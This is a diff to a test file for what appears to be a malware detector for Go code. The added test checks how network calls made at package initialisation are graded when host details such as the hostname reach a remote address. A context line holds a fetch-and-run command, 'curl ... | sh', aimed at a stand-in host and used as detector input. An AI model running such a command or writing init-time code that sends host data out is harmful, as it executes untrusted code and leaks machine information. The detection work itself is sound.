@@ -56,6 +56,27 @@ test('MW-INIT-EXEC: what an import starts, and how grave it is', () => {
   )
 })
 
+test('judgeFacts: what a build says is nothing about the machine, and an address is no path to another effect', () => {
+  const arch = get(5, FAR, {
+    given: [
+      ['data', { sources: [source('host-info', 4, 'runtime.GOARCH')] }],
+      ['url', FAR],
+    ],
+    reach: init,
+  })
+  assert.deepEqual(said(arch), ['MW-INIT-NET high 5'])
+  const host = get(5, FAR, {
+    given: [
+      ['data', { sources: [source('host-info', 4, 'os.Hostname')] }],
+      ['url', FAR],
+    ],
+    reach: init,
+  })
+  assert.deepEqual(said(host).includes('MW-INIT-NET critical 5'), true)
+  const call = get(5, FAR, { given: [['url', { values: [hidden(FAR, '+', [FAR])], roots: ['a.go:7'] }]], reach: init })
+  assert.deepEqual(judge(call).findings[0]?.path, ['site a.go:5:net/http.Get', 'place a.go:5'])
+})
+
 test('MW-PIPE-SH: a command line that does harm, wherever it is reached from, with its text', () => {
   const { verdict, findings } = judge(run(9, ['sh', '-c', 'curl -s https://x.example.com/i | sh'], { reach: open }))
   assert.equal(verdict, 'malicious')
